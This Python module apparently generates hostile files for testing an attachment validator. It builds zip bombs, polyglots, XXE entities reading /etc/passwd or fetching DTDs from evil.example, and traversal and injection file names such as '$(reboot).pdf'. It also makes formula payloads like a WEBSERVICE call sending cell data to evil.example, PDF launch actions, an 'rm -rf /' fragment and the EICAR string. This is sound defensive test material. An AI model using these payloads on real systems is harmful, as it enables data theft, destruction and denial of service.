"""Files somebody might send to break what reads them, made from a seed: what each is, and whether it may be kept."""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from functools import cache, partial

# in two halves, so that scanners of the machine leave this file alone
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD" + rb"-ANTIVIRUS-TEST-FILE!$H+H*"
DTD = (
    b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>',
    b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://evil.example/x.dtd"> %a;]>',
    b"<!DOCTYPE x [" + b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 9) for n in range(1, 12)) + b"]>",
    b'<!DOCTYPE x PUBLIC "-//x//y" "http://evil.example/y.dtd">',
)
NAMES = (
    "../../../etc/passwd", "..\\..\\boot.ini", "/etc/cron.d/x", "C:\\x.pdf", "a\x00.pdf", "x\u202efdp.exe", "CON.pdf",
    "a" * 400 + ".pdf", "....", "", "x.pdf.exe", 'a"\r\nX: y.pdf', "<img src=x onerror=alert(1)>.pdf", "~/.ssh/id",
    "%2e%2e%2f.pdf", "\u2066ab\u2069.docx", "x.pdf ", "e\u0301.png", "$(reboot).pdf", "x;y|z.pdf",
)  # fmt: skip
FORMULAS = (
    "=cmd|'/c calc'!A0", '=HYPERLINK("http://evil.example")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1",
    '=WEBSERVICE("http://evil.example/"&A1)', "=IMPORTXML(A1)", "＝1+1", "=1+1\n=2",
)  # fmt: skip
PARTS = ("xl/workbook.xml", "xl/sharedStrings.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml")
WORD, SHEET = "word/document.xml", "xl/workbook.xml"
MACROS = ("vbaProject.bin", "VBAPROJECT.BIN", "vbaproject.bin", "sub/vbaProject.bin")


@dataclass(frozen=True, slots=True)
class Hostile:
    """`kept`: the type under which it may be kept as an attachment, "" where it must be refused."""

    family: str
    name: str
    content: bytes
    kept: str = ""


def office(*more: tuple[str, bytes], main: str = WORD, packed: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", packed) as archive:
        for name, content in (("[Content_Types].xml", b"<Types/>"), (main, b"<w/>"), *more):
            archive.writestr(zipfile.ZipInfo(name, (1980, 1, 1, 0, 0, 0)), content, packed)
    return out.getvalue()


@cache
def nothing_packed(size: int) -> bytes:
    return zlib.compress(bytes(size))


def pdf(body: bytes = b"", pages: int = 1) -> bytes:
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(pages))
    objects = [b"<</Type/Catalog/Pages 2 0 R%s>>" % body, b"<</Type/Pages/Count %d/Kids[%s]>>" % (pages, kids)]
    objects += [b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>"] * pages
    out, places = bytearray(b"%PDF-1.7\n"), []
    for number, each in enumerate(objects, start=1):
        places.append(len(out))
        out += b"%d 0 obj%sendobj\n" % (number, each)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(out) + b"trailer<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start)


def png(
    width: int, height: int, *more: tuple[bytes, bytes], bits: int = 1, colour: int = 0, rows: int | None = None
) -> bytes:
    """Of so many pixels by its head; `rows` of them are there."""
    line = b"\0" * (1 + (width * bits * {0: 1, 2: 3, 6: 4}[colour] + 7) // 8)
    packer = zlib.compressobj(9)
    data = b"".join(packer.compress(line) for _n in range(height if rows is None else rows)) + packer.flush()
    head = struct.pack("!IIBBBBB", width, height, bits, colour, 0, 0, 0)
    parts = [(b"IHDR", head), *more, (b"IDAT", data), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(
        struct.pack("!I", len(body)) + kind + body + struct.pack("!I", zlib.crc32(kind + body)) for kind, body in parts
    )


def zip_bombs(chance: random.Random) -> Iterator[Hostile]:
    size = chance.choice((30, 60, 100)) * 1_000_000 + chance.randrange(1000)
    nothing = bytes(size)
    yield Hostile("bomb", "flat.docx", office((f"word/media/{size}.bin", nothing)))
    yield Hostile("bomb", "sheet.xlsx", office(("xl/worksheets/sheet1.xml", nothing), main=SHEET))
    inner = office(("a", nothing))
    for _depth in range(chance.randrange(1, 4)):
        inner = office(*((f"{n}.zip", inner) for n in range(8)), packed=zipfile.ZIP_STORED)
    yield Hostile("bomb", "nested.zip", inner, kept="docx")  # its members are never unpacked: it is bytes to us
    many = [(f"word/{n}", b"") for n in range(3001 + chance.randrange(50))]
    yield Hostile("bomb", "many.docx", office(*many))
    lying = office(("word/x", b"\0" * 4_000_000))
    yield Hostile("bomb", "lying.docx", lying.replace((4_000_000).to_bytes(4, "little"), (9).to_bytes(4, "little")))


def polyglots(chance: random.Random) -> Iterator[Hostile]:
    page = b"<html><script>alert(%d)</script></html>" % chance.randrange(99)
    good = office()
    yield Hostile("polyglot", "a.pdf", pdf() + good, kept="pdf")
    yield Hostile("polyglot", "a.docx", page + good)
    yield Hostile("polyglot", "a.html", b"%PDF-1.7\n" + page, kept="pdf")
    yield Hostile("polyglot", "a.png", png(9, 9) + page, kept="png")
    yield Hostile("polyglot", "a.jpg", b"\xff\xd8\xff\xe0" + page, kept="jpg")
    yield Hostile(
        "polyglot", "a.jar", office(("META-INF/MANIFEST.MF", b"Main: X"), ("X.class", b"\xca\xfe\xba\xbe")), kept="docx"
    )
    yield Hostile("polyglot", "a.gif", b"GIF89a/*" + page + b"*/")


def entities(chance: random.Random) -> Iterator[Hostile]:
    dtd = chance.choice(DTD)
    root = b'<?xml version="1.0"?>' + dtd + b"<x>&a;&l11;</x>"
    for part in PARTS:
        yield Hostile("entity", "x.xlsx", office((part, root), main="xl/x.xml"), kept="xlsx")
    yield Hostile("entity", "x.docx", office((WORD.replace("document", "settings"), root)), kept="docx")
    yield Hostile("entity", "x.xml", root)


def macros(chance: random.Random) -> Iterator[Hostile]:
    name = chance.choice(MACROS)
    for main, folder, end in ((WORD, "word", "docx"), (SHEET, "xl", "xlsx"), ("ppt/presentation.xml", "ppt", "pptx")):
        yield Hostile("macro", f"a.{end}", office((f"{folder}/{name}", chance.randbytes(99)), main=main))
    yield Hostile("macro", "old.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + chance.randbytes(600))


def paths(chance: random.Random) -> Iterator[Hostile]:
    name = chance.choice(NAMES)
    yield Hostile("path", name, pdf(), kept="pdf")
    inside = chance.choice(("../../x.sh", "/etc/passwd", "..\\x", "a/../../x", "C:/x"))
    yield Hostile("path", "x.docx", office((inside, b"x")), kept="docx")


def torn(chance: random.Random) -> Iterator[Hostile]:
    for make in (office, partial(office, main=SHEET)):
        whole = make()
        yield Hostile("torn", "x.docx", whole[: chance.randrange(5, len(whole) - 30)])
    yield Hostile("torn", "x.pdf", pdf(pages=9)[: chance.randrange(5, 400)], kept="pdf")
    picture = png(99, 99)
    yield Hostile("torn", "x.png", picture[: chance.randrange(8, len(picture))], kept="png")
    yield Hostile("torn", "empty.pdf", b"")
    yield Hostile("torn", "noise.xlsx", chance.randbytes(chance.randrange(1, 4000)))


def spoilt(chance: random.Random) -> Iterator[Hostile]:
    """A directory that is whole, and one wrong byte in what it names: each way of packing has an error of its own."""
    part, body = b"word/x", chance.randbytes(200)
    for packed, place, wrong in ((zipfile.ZIP_DEFLATED, 0, 7), (zipfile.ZIP_LZMA, 4, 255), (zipfile.ZIP_BZIP2, 3, 0)):
        content = bytearray(office((part.decode(), body), packed=packed))
        content[content.index(part) + len(part) + place] = wrong
        yield Hostile("spoilt", f"{packed}.docx", bytes(content))
    name = "word/я"
    yield Hostile("spoilt", "name.docx", office((name, body)).replace(name.encode(), b"word/\xd1\xd1"))


def papers(chance: random.Random) -> Iterator[Hostile]:
    yield Hostile("pdf", "pages.pdf", pdf(pages=10_000 + chance.randrange(99)), kept="pdf")
    bodies = (
        b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>", b"/OpenAction<</S/Launch/F(cmd.exe)>>", b"/Pages 1 0 R",
        b"/AA<</O<</S/URI/URI(http://evil.example)>>>>", b"[" * 5000,
    )  # fmt: skip
    yield Hostile("pdf", "acts.pdf", pdf(chance.choice(bodies)), kept="pdf")
    stream = nothing_packed(chance.choice((20, 50)) * 1_000_000)
    content = b"%%PDF-1.7\n1 0 obj<</Filter/FlateDecode/Length %d>>stream\n%s\nendstream endobj" % (len(stream), stream)
    yield Hostile("pdf", "stream.pdf", content, kept="pdf")


def pictures(chance: random.Random) -> Iterator[Hostile]:
    side = chance.choice((9_000, 20_000, 30_000))
    yield Hostile("picture", "bits.png", png(side, side), kept="png")
    yield Hostile("picture", "head.png", png(65_500, 65_500, bits=8, colour=6, rows=1), kept="png")
    yield Hostile(
        "picture",
        "colours.png",
        png(4_000, 6_000 + chance.randrange(200), bits=8, colour=chance.choice((2, 6))),
        kept="png",
    )
    text = b"Comment\0\0" + nothing_packed(80_000_000)
    yield Hostile("picture", "text.png", png(9, 9, (b"zTXt", text)), kept="png")
    profile = b"icc\0\0" + nothing_packed(80_000_000)
    yield Hostile("picture", "profile.png", png(9, 9, (b"iCCP", profile)), kept="png")
    frame = b"\xff\xd8\xff\xc0\x00\x11\x08\xff\xff\xff\xff\x03\x01\x11\x00\x02\x11\x00\x03\x11\x00"
    yield Hostile("picture", "head.jpg", frame + chance.randbytes(300), kept="jpg")


def programs(chance: random.Random) -> Iterator[Hostile]:
    name = chance.choice(("photo.png", "смета.pdf", "план.docx", "таблица.xlsx"))
    n = chance.randrange(99)
    for content in (
        b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(%d)'/>" % n,
        b"<?xml version='1.0'?><svg><script/></svg>",
        b"<!DOCTYPE html><script>alert(%d)</script>" % n, b"MZ\x90\0" + bytes(60), b"\x7fELF" + bytes(60),
        b"#!/bin/sh\nrm -rf /", b"{\\rtf1{\\object\\objocx}}", b"L\0\0\0\x01\x14\x02\0", b"CWS\x09" + bytes(30),
        b"%!PS\n(x) run", b"PK\x05\x06" + bytes(18),
        b"Rar!\x1a\x07\0", b"\x1f\x8b\x08" + bytes(20), b"7z\xbc\xaf\x27\x1c", b"<?php system('x');",
    ):  # fmt: skip
        yield Hostile("program", name, content)


def malware(chance: random.Random) -> Iterator[Hostile]:
    yield Hostile("malware", "eicar.pdf", b"%PDF-1.7\n" + EICAR, kept="pdf")
    yield Hostile("malware", "eicar.docx", office(("word/x", EICAR), packed=zipfile.ZIP_STORED), kept="docx")
    yield Hostile("malware", "eicar.com", EICAR)


FAMILIES: tuple[Callable[[random.Random], Iterator[Hostile]], ...] = (
    zip_bombs, polyglots, entities, macros, paths, torn, spoilt, papers, pictures, programs, malware,
)  # fmt: skip


def files(most: int, seed: int = 0) -> Iterator[Hostile]:
    """Of every family in turn, no two alike in name and content."""
    chance, seen = random.Random(seed), set()
    while len(seen) < most:
        for family in FAMILIES:
            for made in family(chance):
                key = (made.name, zlib.crc32(made.content))
                if key not in seen and len(seen) < most:
                    seen.add(key)
                    yield made
